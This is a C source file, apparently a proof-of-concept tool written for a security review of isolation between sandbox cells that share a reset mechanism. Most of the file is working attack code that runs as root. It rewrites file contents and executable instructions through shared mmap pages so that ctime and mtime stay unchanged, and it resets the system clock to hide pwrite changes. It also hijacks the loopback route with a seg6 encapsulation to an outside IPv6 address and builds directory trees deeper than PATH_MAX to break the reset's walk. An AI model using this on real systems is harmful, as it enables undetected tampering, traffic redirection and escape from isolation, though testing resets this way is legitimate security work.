/*
 * hiso2-agent: review h-attack60 (isolation between the cells of a batch,
 * the reset of 04409e0). Run as root in one cell of a batch; it leaves a
 * change in the root filesystem that the next reset's `rootfs` check
 * (size, mode, owner, ctime of every file) does not see.
 *
 *   hiso2-agent mmap FILE OLD NEW   replace the first OLD in FILE by NEW
 *                                   (same length) through a MAP_SHARED
 *                                   mapping whose pages were read first:
 *                                   tmpfs (the initramfs's rootfs) has
 *                                   no page_mkwrite, so its read fault
 *                                   maps the page writable and the write
 *                                   takes no fault; the time update is
 *                                   in the write fault only
 *                                   (fault_dirty_shared_page), so
 *                                   neither ctime nor mtime moves
 *   hiso2-agent clock FILE OLD NEW  the same by pwrite(), with the clock
 *                                   set to FILE's ctime before each try
 *                                   (coarse time is exactly the value set
 *                                   until the next tick), until the ctime
 *                                   reads as before; the clock is put back
 *   hiso2-agent patch FILE OFF OLDHEX NEWHEX
 *                                   the same by mmap at offset OFF, only
 *                                   where the bytes there are OLDHEX (a
 *                                   function's first instructions)
 *   hiso2-agent encap                the boot's route "local 127.0.0.1 table
 *                                   local" replaced by itself plus a seg6
 *                                   encapsulation (RTA_ENCAP, built in on
 *                                   Debian): the reset's route line keeps
 *                                   neither RTA_ENCAP nor RTA_ENCAP_TYPE,
 *                                   and every IPv4 packet to 127.0.0.1 is
 *                                   then sent in IPv6 to 2001:db8::dead
 *   hiso2-agent encap prepend        the same route added before the boot's
 *                                   (NLM_F_CREATE, no NLM_F_REPLACE)
 *   hiso2-agent hashcost             what the smallest fix would cost: every
 *                                   regular file of the root filesystem
 *                                   read and hashed (64-bit multiply-xor
 *                                   over 8-byte words), bytes and ms
 *   hiso2-agent deep N               /hiso2-deep/a/a/... N directories deep
 *                                   (past PATH_MAX: the reset's walk and
 *                                   removal build absolute paths)
 *   hiso2-agent stat FILE           print FILE's size, mode and ctime
 *
 * Prints "hiso2 ..." lines on stdout (the supervisor log carries them).
 */
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <glob.h>
#include <stdbool.h>
#include <stdint.h>
#include <arpa/inet.h>
#include <linux/lwtunnel.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/seg6.h>
#include <linux/seg6_iptunnel.h>
#include <sys/socket.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void show(const char *what, const char *file)
{
	struct stat st;

	if (stat(file, &st) < 0) {
		printf("hiso2 %s %s: stat: %s\n", what, file, strerror(errno));
		return;
	}
	printf("hiso2 %s %s size=%lld mode=%o ctime=%lld.%09ld mtime=%lld.%09ld\n", what, file,
	       (long long)st.st_size, (unsigned)st.st_mode, (long long)st.st_ctim.tv_sec,
	       st.st_ctim.tv_nsec, (long long)st.st_mtim.tv_sec, st.st_mtim.tv_nsec);
}

/* The offset of OLD in the file FD of SIZE bytes, or -1. */
static long find(int fd, size_t size, const char *old)
{
	char *p = mmap(NULL, size, PROT_READ, MAP_SHARED, fd, 0);
	long off = -1;

	if (p == MAP_FAILED)
		return -1;
	char *hit = memmem(p, size, old, strlen(old));
	if (hit)
		off = hit - p;
	munmap(p, size);
	return off;
}

static int by_mmap(const char *file, const char *old, const char *new)
{
	int fd = open(file, O_RDWR | O_CLOEXEC);
	struct stat st;

	if (fd < 0 || fstat(fd, &st) < 0) {
		printf("hiso2 mmap %s: %s\n", file, strerror(errno));
		return 1;
	}
	long off = find(fd, (size_t)st.st_size, old);
	if (off < 0) {
		printf("hiso2 mmap %s: '%s' not found\n", file, old);
		return 1;
	}
	char *p = mmap(NULL, (size_t)st.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (p == MAP_FAILED) {
		printf("hiso2 mmap %s: mmap: %s\n", file, strerror(errno));
		return 1;
	}
	/* Read every page first: the write then takes no fault. */
	for (size_t i = (size_t)off & ~4095UL; i < (size_t)off + strlen(new); i += 4096)
		(void)*(volatile char *)(p + i);
	(void)*(volatile char *)(p + off + strlen(new) - 1);
	memcpy(p + off, new, strlen(new));
	msync(p, (size_t)st.st_size, MS_SYNC);
	munmap(p, (size_t)st.st_size);
	close(fd);
	printf("hiso2 mmap %s: replaced at offset %ld\n", file, off);
	return 0;
}

static size_t unhex(const char *h, unsigned char *out, size_t max)
{
	size_t n = 0;

	for (; h[0] && h[1] && n < max; h += 2)
		sscanf(h, "%2hhx", &out[n++]);
	return n;
}

static int by_patch(const char *file, long off, const char *oldhex, const char *newhex)
{
	unsigned char old[64], new[64];
	size_t n = unhex(oldhex, old, sizeof(old));
	struct stat st;
	int fd, waits = 0;

	/* A running executable is ETXTBSY: wait for the cell's supervisor to
	 * end (a service outlives it until init kills the services). */
	while ((fd = open(file, O_RDWR | O_CLOEXEC)) < 0 && errno == ETXTBSY && waits < 60000) {
		waits++;
		usleep(1000);
	}
	printf("hiso2 patch %s: open after %d waits of 1 ms\n", file, waits);
	if (n != unhex(newhex, new, sizeof(new)) || fd < 0 || fstat(fd, &st) < 0 || off < 0 ||
	    (size_t)off + n > (size_t)st.st_size) {
		printf("hiso2 patch %s: not patched (%s)\n", file, strerror(errno));
		if (fd >= 0)
			close(fd);
		return 1;
	}
	unsigned char *p =
	    mmap(NULL, (size_t)st.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	close(fd);
	if (p == MAP_FAILED) {
		printf("hiso2 patch %s: mmap: %s\n", file, strerror(errno));
		return 1;
	}
	/* The read is the page's fault: the write then takes none. */
	if (memcmp(p + off, old, n) != 0) {
		printf("hiso2 patch %s: other bytes at %ld, left alone\n", file, off);
		munmap(p, (size_t)st.st_size);
		return 1;
	}
	memcpy(p + off, new, n);
	munmap(p, (size_t)st.st_size);
	printf("hiso2 patch %s: %zu bytes at %ld\n", file, n, off);
	return 0;
}

/* Appends attribute TYPE with LEN bytes of DATA to message H. */
static struct rtattr *put(struct nlmsghdr *h, unsigned short type, const void *data, size_t len)
{
	struct rtattr *a = (struct rtattr *)((char *)h + NLMSG_ALIGN(h->nlmsg_len));

	a->rta_type = type;
	a->rta_len = (unsigned short)RTA_LENGTH(len);
	if (data)
		memcpy(RTA_DATA(a), data, len);
	h->nlmsg_len = NLMSG_ALIGN(h->nlmsg_len) + RTA_ALIGN(a->rta_len);
	return a;
}

static int encap(bool prepend)
{
	static char buf[65536] __attribute__((aligned(8)));
	static char req[4096] __attribute__((aligned(8)));
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
	struct {
		struct nlmsghdr h;
		struct rtmsg r;
	} dump = {{sizeof(dump), RTM_GETROUTE, NLM_F_REQUEST | NLM_F_DUMP, 1, 0},
		  {.rtm_family = AF_INET}};
	int found = 0;
	ssize_t n;

	if (fd < 0 || send(fd, &dump, sizeof(dump), 0) < 0) {
		printf("hiso2 encap: netlink: %s\n", strerror(errno));
		return 1;
	}
	/* The whole dump is read: the answer to the replace comes after it. */
	while ((n = recv(fd, buf, sizeof(buf), 0)) > 0) {
		int done = 0;

		for (struct nlmsghdr *h = (struct nlmsghdr *)buf; NLMSG_OK(h, (size_t)n);
		     h = NLMSG_NEXT(h, n)) {
			if (h->nlmsg_type == NLMSG_DONE || h->nlmsg_type == NLMSG_ERROR) {
				done = 1;
				break;
			}
			struct rtmsg *r = NLMSG_DATA(h);
			int len = (int)RTM_PAYLOAD(h);

			if (r->rtm_table != RT_TABLE_LOCAL || r->rtm_type != RTN_LOCAL ||
			    r->rtm_dst_len != 32)
				continue;
			for (struct rtattr *a = RTM_RTA(r); RTA_OK(a, len); a = RTA_NEXT(a, len))
				if (!found && a->rta_type == RTA_DST &&
				    *(uint32_t *)RTA_DATA(a) == htonl(0x7f000001) &&
				    h->nlmsg_len < sizeof(req) - 256) {
					memcpy(req, h, h->nlmsg_len);
					found = 1;
				}
		}
		if (done)
			break;
	}
	if (!found) {
		printf("hiso2 encap: no local 127.0.0.1 route\n");
		return 1;
	}
	struct nlmsghdr *h = (struct nlmsghdr *)req;

	h->nlmsg_type = RTM_NEWROUTE;
	/* prepend: a second route of the same key before the boot's
	 * (`ip route prepend`), the boot's left as it was. */
	h->nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | (prepend ? NLM_F_CREATE : NLM_F_REPLACE);
	h->nlmsg_seq = 2;
	uint16_t et = LWTUNNEL_ENCAP_SEG6;
	put(h, RTA_ENCAP_TYPE, &et, sizeof(et));
	struct rtattr *nest = put(h, RTA_ENCAP | NLA_F_NESTED, NULL, 0);
	struct {
		struct seg6_iptunnel_encap e;
		struct ipv6_sr_hdr srh;
		struct in6_addr seg;
	} __attribute__((packed)) t;

	memset(&t, 0, sizeof(t));
	t.e.mode = SEG6_IPTUN_MODE_ENCAP;
	t.srh.hdrlen = 2;
	t.srh.type = 4; /* IPV6_SRCRT_TYPE_4 */
	inet_pton(AF_INET6, "2001:db8::dead", &t.seg);
	put(h, SEG6_IPTUNNEL_SRH, &t, sizeof(t));
	nest->rta_len = (unsigned short)((char *)h + h->nlmsg_len - (char *)nest);
	if (send(fd, req, h->nlmsg_len, 0) < 0 || (n = recv(fd, buf, sizeof(buf), 0)) < 0) {
		printf("hiso2 encap: netlink: %s\n", strerror(errno));
		return 1;
	}
	struct nlmsgerr *e = NLMSG_DATA((struct nlmsghdr *)buf);

	if (((struct nlmsghdr *)buf)->nlmsg_type != NLMSG_ERROR) {
		printf("hiso2 encap: no answer to the replace\n");
		return 1;
	}
	printf("hiso2 encap: %s local 127.0.0.1 with seg6 encap: %s\n",
	       prepend ? "prepend" : "replace", e->error ? strerror(-e->error) : "done");
	return e->error ? 1 : 0;
}

static uint64_t hash_all, bytes_all;
static long files_all;
static dev_t root_dev;

static int hash_one(const char *path, const struct stat *st, int type, struct FTW *f)
{
	(void)f;
	if (st->st_dev != root_dev || type != FTW_F || !S_ISREG(st->st_mode) || st->st_size == 0)
		return 0;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return 0;
	const unsigned char *p = mmap(NULL, (size_t)st->st_size, PROT_READ, MAP_SHARED, fd, 0);
	close(fd);
	if (p == MAP_FAILED)
		return 0;
	uint64_t h = 0x9e3779b97f4a7c15ULL;
	size_t n = (size_t)st->st_size, i = 0;

	for (; i + 8 <= n; i += 8) {
		uint64_t w;

		memcpy(&w, p + i, 8);
		h = (h ^ w) * 0xff51afd7ed558ccdULL;
	}
	for (; i < n; i++)
		h = (h ^ p[i]) * 0x100000001b3ULL;
	munmap((void *)p, n);
	hash_all ^= h;
	bytes_all += n;
	files_all++;
	return 0;
}

static int hashcost(void)
{
	struct stat st;
	struct timespec a, b;

	if (stat("/", &st) < 0)
		return 1;
	root_dev = st.st_dev;
	clock_gettime(CLOCK_MONOTONIC, &a);
	nftw("/", hash_one, 32, FTW_PHYS | FTW_MOUNT);
	clock_gettime(CLOCK_MONOTONIC, &b);
	printf("hiso2 hashcost: %ld files, %llu bytes, %ld ms (digest %016llx)\n", files_all,
	       (unsigned long long)bytes_all,
	       (long)((b.tv_sec - a.tv_sec) * 1000 + (b.tv_nsec - a.tv_nsec) / 1000000),
	       (unsigned long long)hash_all);
	return 0;
}

static int deep(long n)
{
	int fd = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
	long i = 0;

	for (; i < n && fd >= 0; i++) {
		const char *name = i ? "a" : "hiso2-deep";

		if (mkdirat(fd, name, 0755) < 0 && errno != EEXIST)
			break;
		int next = openat(fd, name, O_PATH | O_DIRECTORY | O_CLOEXEC);

		close(fd);
		fd = next;
	}
	printf("hiso2 deep: %ld directories (%s)\n", i, i == n ? "done" : strerror(errno));
	return i == n ? 0 : 1;
}

static int by_clock(const char *file, const char *old, const char *new)
{
	int fd = open(file, O_RDWR | O_CLOEXEC);
	struct stat st, now;
	struct timespec real0, mono0, mono1;

	if (fd < 0 || fstat(fd, &st) < 0) {
		printf("hiso2 clock %s: %s\n", file, strerror(errno));
		return 1;
	}
	long off = find(fd, (size_t)st.st_size, old);
	if (off < 0) {
		printf("hiso2 clock %s: '%s' not found\n", file, old);
		return 1;
	}
	clock_gettime(CLOCK_REALTIME, &real0);
	clock_gettime(CLOCK_MONOTONIC, &mono0);
	int tries = 0;
	for (; tries < 2000; tries++) {
		if (clock_settime(CLOCK_REALTIME, &st.st_ctim) < 0) {
			printf("hiso2 clock: clock_settime: %s\n", strerror(errno));
			return 1;
		}
		if (pwrite(fd, new, strlen(new), off) != (ssize_t)strlen(new)) {
			printf("hiso2 clock: pwrite: %s\n", strerror(errno));
			return 1;
		}
		if (fstat(fd, &now) == 0 && now.st_ctim.tv_sec == st.st_ctim.tv_sec &&
		    now.st_ctim.tv_nsec == st.st_ctim.tv_nsec)
			break;
	}
	/* The clock back (the reset's clock check would do it too). */
	clock_gettime(CLOCK_MONOTONIC, &mono1);
	long long ns = (long long)real0.tv_nsec + (mono1.tv_sec - mono0.tv_sec) * 1000000000LL +
		       (mono1.tv_nsec - mono0.tv_nsec);
	struct timespec back = {real0.tv_sec + ns / 1000000000LL, ns % 1000000000LL};
	clock_settime(CLOCK_REALTIME, &back);
	close(fd);
	printf("hiso2 clock %s: %s after %d tries\n", file,
	       tries < 2000 ? "ctime kept" : "ctime moved", tries + 1);
	return tries < 2000 ? 0 : 1;
}

int main(int argc, char **argv)
{
	int rc = 2;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 2 && strcmp(argv[1], "hashcost") == 0) {
		for (int i = 0; i < 3; i++)
			hashcost();
		return 0;
	}
	if (argc == 3 && strcmp(argv[1], "deep") == 0)
		return deep(strtol(argv[2], NULL, 10));
	if (argc == 2 && strcmp(argv[1], "encap") == 0)
		return encap(false);
	if (argc == 3 && strcmp(argv[1], "encap") == 0 && strcmp(argv[2], "prepend") == 0)
		return encap(true);
	if (argc == 3 && strcmp(argv[1], "stat") == 0) {
		show("stat", argv[2]);
		return 0;
	}
	if (argc == 6 && strcmp(argv[1], "patch") == 0) {
		glob_t g;
		int r = 1;

		if (glob(argv[2], 0, NULL, &g) != 0)
			return 1;
		for (size_t i = 0; i < g.gl_pathc; i++) {
			show("before", g.gl_pathv[i]);
			if (by_patch(g.gl_pathv[i], strtol(argv[3], NULL, 0), argv[4], argv[5]) ==
			    0)
				r = 0;
			show("after", g.gl_pathv[i]);
		}
		globfree(&g);
		return r;
	}
	if (argc != 5 || strlen(argv[3]) != strlen(argv[4])) {
		fprintf(stderr, "usage: hiso2-agent mmap|clock FILE OLD NEW (same length)\n");
		return 2;
	}
	/* FILE may be a pattern (the victim's cell file names the kernel). */
	glob_t g;

	if (glob(argv[2], 0, NULL, &g) != 0) {
		printf("hiso2 %s: no match\n", argv[2]);
		return 1;
	}
	for (size_t i = 0; i < g.gl_pathc; i++) {
		const char *f = g.gl_pathv[i];

		show("before", f);
		if (strcmp(argv[1], "mmap") == 0)
			rc = by_mmap(f, argv[3], argv[4]);
		else if (strcmp(argv[1], "clock") == 0)
			rc = by_clock(f, argv[3], argv[4]);
		show("after", f);
	}
	globfree(&g);
	return rc;
}
